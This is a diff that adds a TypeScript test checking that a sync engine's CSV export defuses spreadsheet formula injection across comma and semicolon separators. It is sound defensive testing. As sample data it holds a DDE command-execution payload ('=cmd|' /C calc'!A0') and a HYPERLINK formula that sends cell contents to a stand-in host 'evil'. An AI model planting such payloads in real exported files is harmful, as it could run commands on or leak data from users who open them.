@@ -61,6 +61,24 @@ describe('sync engine: review findings', () => {
     expect(row).toBe('update,written,k,"\'=HYPERLINK(""http://evil/?""&A1,""x"")",1,Title,-12.5,\'@SUM(1+1)*cmd,changed');
   });
 
+  it('a CSV read with the other list separator than it was written with still holds no formula (Dutch Excel reads , files with ;)', () => {
+    const entry = {
+      exactKey: 'k', label: "Acme;=cmd|' /C calc'!A0;x", action: 'update', reason: because('asWritten', 'changed'), itemId: 1, outcome: 'written',
+      changes: [{ field: 'City', before: 'Gent,=1+1,x', after: 'Gent, -12,5;@SUM(A1)' }], problems: [], kept: [],
+    } as unknown as RunEntry;
+    for (const [written, readWith] of [[',', ';'], [';', ',']] as const) {
+      const row = runLogToCsv([entry], { bom: false, separator: written }).split('\r\n')[1];
+      // Naively split on the other separator, as an Excel that takes the file for its own would,
+      // quotes and all: no piece may start a formula.
+      const pieces = row.split(readWith).flatMap((piece) => piece.split(written)).map((piece) => piece.replace(/^"/, ''));
+      expect(pieces.filter((piece) => /^[=+@\t\r]/.test(piece) || /^-(?!\d+$)/.test(piece)), `${written} read with ${readWith}: ${row}`).toEqual([]);
+      // And read as written, every value is whole: quoted, with the defusing ' as the only change.
+      expect(row).toContain(`"Acme;'=cmd|' /C calc'!A0;x"`);
+      expect(row).toContain(`"Gent,'=1+1,x"`);
+      expect(row).toContain(`"Gent, -12,5;'@SUM(A1)"`);
+    }
+  });
+
   it('currency and number transforms round the decimal a person reads', () => {
     expect(roundHalfAwayFromZero(1.005, 2)).toBe(1.01);
     expect(roundHalfAwayFromZero(2.675, 2)).toBe(2.68);
